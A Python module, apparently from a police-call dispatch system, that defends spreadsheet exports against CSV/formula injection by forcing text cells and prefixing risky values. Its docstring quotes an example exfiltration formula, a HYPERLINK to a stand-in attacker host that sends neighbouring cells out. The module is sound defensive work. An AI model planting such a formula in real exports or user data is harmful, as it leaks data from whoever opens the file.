"""Spreadsheet exports that never carry a live formula (issue 15 §1, OWASP "CSV injection").

Callers' words, 110 messages, unit names and addresses reach the exported cells. A cell whose
text begins with ``=`` (or ``+``, ``-``, ``@``, a tab or a carriage return, which Excel and
LibreOffice also read as the start of a formula or a DDE call) would run when a supervisor opens
the file: ``=HYPERLINK("http://evil.example/?x="&A2,"点击")`` sends the neighbouring cells away.

- XLSX: every text is written as a string cell (openpyxl would otherwise store text beginning
  with ``=`` as a formula) and marked "quote prefix", so even re-typing the cell in Excel keeps
  it text. The words are kept exactly.
- CSV has no cell types: a text that could start a formula gets a leading apostrophe, the
  convention spreadsheet programs show as "this is text".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def risky(value: object) -> bool:
    """Whether a spreadsheet program could read this text as a formula."""
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    return "'" + value if risky(value) else value


def to_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buf.getvalue().encode("utf-8-sig")  # BOM: Excel opens Chinese CSV correctly


def append_row(ws: Worksheet, row: Sequence[Any]) -> None:
    """``ws.append`` with every text kept a string, never a formula."""
    ws.append(list(row))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if risky(cell.value):
                cell.quotePrefix = True
